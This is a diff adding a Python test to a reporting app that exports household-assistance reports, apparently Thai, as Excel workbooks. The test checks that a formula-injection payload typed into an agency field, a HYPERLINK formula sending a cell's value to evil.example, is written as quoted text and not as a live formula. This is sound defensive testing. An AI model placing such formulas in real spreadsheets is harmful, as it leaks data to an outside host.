@@ -311,3 +311,26 @@ def test_a_report_with_no_rows_is_a_valid_report(
     assert list(AuditEvent.objects.values_list("object_id", "after")) == [
         (f"340104.{fmt}", {"format": fmt, "rows": 0})
     ]
+
+
+def test_an_agency_typed_as_a_formula_is_a_text_in_the_workbook(client: Any, people: Any) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&B1,"คลิก")'
+    Problem.objects.create(
+        year=YEAR,
+        household_id=H1,
+        village_code=VILLAGE[H1],
+        created_by=people["district"],
+        title="ไม่มีงานทำ",
+        performer="ทีม",
+        agency=hostile,
+        occurred_on=date(2024, 1, 5),
+    )
+    r = get(client, people["district"], "/reports/assistance/3401.xlsx", month="2567-01")
+    sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml
+    ws = load_workbook(io.BytesIO(r.content)).active
+    assert ws is not None
+    agency = ws.cell(row=HEADER_ROW + 1, column=1)
+    assert (agency.value, agency.data_type, agency.quotePrefix) == (hostile, "s", True)
+    count = ws.cell(row=HEADER_ROW + 1, column=2)
+    assert (count.value, count.data_type) == (1, "n")  # numbers stay numbers
